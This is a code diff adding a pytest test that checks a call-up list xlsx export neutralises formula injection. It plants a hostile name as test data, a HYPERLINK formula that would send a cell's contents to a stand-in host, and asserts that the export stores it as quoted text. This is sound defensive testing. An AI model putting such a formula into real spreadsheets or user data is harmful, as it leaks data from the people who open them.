@@ -410,3 +410,17 @@ def test_long_text_wraps_inside_its_column(scenario, officer):
     ]  # fmt: skip
     assert long_cells
     assert all(c.alignment.wrap_text for c in long_cells)
+
+
+def test_a_formula_in_a_name_is_text_in_the_call_up_list(scenario, officer):
+    """Formula injection: the call-up list export writes a hostile name as text."""
+    entry = reports_lists.callup_list(
+        user=officer, campaign=scenario.campaign, unit=scenario.campaign.unit
+    )[0]
+    name = '=HYPERLINK("http://x/?"&C9,"y")'
+    type(entry.person).objects.filter(pk=entry.person.pk).update(full_name=name)
+    job = export(officer, scenario, "callup_list", "xlsx")
+    ws = openpyxl.load_workbook(io.BytesIO(bytes(job.content))).active
+    found = [c for row in ws.iter_rows() for c in row if c.value == name]
+    assert len(found) == 1 and found[0].data_type == "s" and found[0].quotePrefix
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
